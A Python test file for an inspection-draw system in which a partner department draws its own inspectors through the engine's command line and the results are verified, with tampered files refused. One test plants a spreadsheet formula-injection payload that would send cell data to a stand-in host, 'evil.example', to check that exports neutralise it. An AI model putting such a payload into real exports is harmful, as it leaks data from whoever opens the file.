"""Departments outside: their own SJS1 draw on our list, verified before anything is kept."""

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from inspections.draw import partners
from inspections.engine.changes import chain

from ...staircase import refused_with

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).parents[3]


def theirs(draw, cast, tmp_path, spoil=None):
    """The other department draws its people with nothing but the engine's command line."""
    given = partners.share(draw, by=cast.clerk)
    tasks = json.loads(given["tasks.json"])
    if spoil:
        spoil(tasks)
    (tmp_path / "tasks.json").write_text(json.dumps(tasks))
    out = io.StringIO()
    rows = csv.writer(out)
    rows.writerow(["编号", "姓名", "可任组长", "最多任务数", "须回避的企业编号"])
    rows.writerows([f"Z{n:02d}", f"某{n}", 1, 40, tasks["pool"][0][0] if n == 1 else ""] for n in range(1, 7))
    (tmp_path / "people.csv").write_text(out.getvalue())
    tip, _ = chain("aa" * 32, 5)

    def engine(*arguments):
        run = subprocess.run(
            [sys.executable, "-m", "inspections.engine", *map(str, arguments)],
            capture_output=True,
            text=True,
            cwd=ROOT,
        )
        assert run.returncode == 0, run.stderr + run.stdout
        return run.stdout.strip()

    commitment = engine(
        "seal",
        "--tasks",
        tmp_path / "tasks.json",
        "--people",
        tmp_path / "people.csv",
        "--number",
        "XF-2026-001",
        "--seed-at",
        "2026-03-05T09:00+08:00",
        "--sources",
        "骰子甲",
        "--tip",
        tip,
        "--codes",
        5,
        "--out",
        tmp_path,
    )
    (tmp_path / "sources.json").write_text(json.dumps([["骰子甲", "0123456789"]]))
    engine(
        "draw",
        "--commit",
        tmp_path / "commit.json",
        "--sealed",
        tmp_path / "sealed.json",
        "--sources",
        tmp_path / "sources.json",
        "--out",
        tmp_path,
    )
    files = [(tmp_path / f"{name}.json").read_bytes() for name in ("commit", "result", "openings")]
    return commitment, files, (tmp_path / "people.csv").read_bytes()


def test_another_department_draws_its_own_people_for_our_list(drawn, cast, tmp_path):
    commitment, files, people = theirs(drawn, cast, tmp_path)
    made = partners.receive(drawn, "县消防救援局", commitment, *files, people, by=cast.clerk)
    case = drawn.cases.first()
    ((department, names),) = partners.team_of(case)
    assert department == "县消防救援局" and len(names) == 2 and all(name.startswith("某") for name in names)
    assert set(made.teams) == {each.subject.ref for each in drawn.cases.all()}
    with refused_with("partner_twice"):
        partners.receive(drawn, "县消防救援局", commitment, *files, by=cast.clerk)


def test_another_list_another_commitment_or_a_bent_file_is_refused(drawn, cast, tmp_path):
    (tmp_path / "a").mkdir(), (tmp_path / "b").mkdir()
    commitment, files, _ = theirs(drawn, cast, tmp_path / "a")
    with refused_with("partner_files"):
        partners.receive(drawn, "消防", "0" * 64, *files, by=cast.clerk)
    bent = files[1].replace(b'"cap":', b'"cap":1', 1)
    with refused_with("partner_files"):
        partners.receive(drawn, "消防", commitment, files[0], bent, files[2], by=cast.clerk)
    commitment, files, _ = theirs(drawn, cast, tmp_path / "b", spoil=lambda tasks: tasks["pool"].pop())
    with refused_with("partner_tasks"):
        partners.receive(drawn, "消防", commitment, *files, by=cast.clerk)


def test_what_a_partner_opens_computes_nothing(drawn, cast):
    subject = drawn.cases.first().subject
    subject.name = '=HYPERLINK("http://evil.example/"&A1)'
    subject.save()
    table = partners.share(drawn, by=cast.clerk)["pool.csv"].decode("utf-8-sig")
    assert "'=HYPERLINK" in table
    assert not any(
        cell.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(table)) for cell in row
    )


def test_the_guide_and_the_program_in_the_archive_are_all_that_a_department_needs(drawn, cast, tmp_path):
    """The commands of 说明.txt, as they stand there, in a folder where nothing of ours is but the archive."""
    for name, data in partners.share(drawn, by=cast.clerk).items():
        (tmp_path / name).write_bytes(data)
    guide = (tmp_path / "说明.txt").read_bytes().decode("utf-8-sig")
    assert drawn.number in guide and drawn.bureau.name in guide and "{" not in guide
    titles = next(csv.reader(io.StringIO((tmp_path / "people.csv").read_bytes().decode("utf-8-sig"))))
    first = json.loads((tmp_path / "tasks.json").read_bytes())["pool"][0][0]
    people = [[f"Z{n}", f"某{n}", 1, 40, first if n == 1 else ""] for n in range(1, 7)]
    lines = "\r\n".join(",".join(map(str, row)) for row in [titles, *people])
    (tmp_path / "people.csv").write_bytes(lines.encode("gb18030"))  # as an office's table program saves it
    (tmp_path / "sources.json").write_text(re.search(r"\[\[.*\]\]", guide)[0], encoding="utf-8")
    said = []
    commands = re.findall(r"^ +python (mingqian-draw\.pyz .*?)\r?$", guide, re.M)
    for command in commands:
        words = command.replace("--tip 顶端", f"--tip {said[0].split()[0]}" if said else "").split()
        run = subprocess.run(
            [sys.executable, "-I", *words],
            capture_output=True,
            text=True,
            cwd=tmp_path,
            env={"LANG": "C.UTF-8"},
        )
        assert run.returncode == 0, (command, run.stderr)
        said.append(run.stdout)
    assert [each.split()[1] for each in commands] == ["codes", "seal", "draw", "verify"]
    files = [(tmp_path / "抽取" / f"{name}.json").read_bytes() for name in ("commit", "result", "openings")]
    names = (tmp_path / "people.csv").read_bytes()
    made = partners.receive(drawn, "县消防救援局", said[1], *files, names, by=cast.clerk)
    assert made.names["Z1"] == "某1" and "Z1" not in made.teams[first]
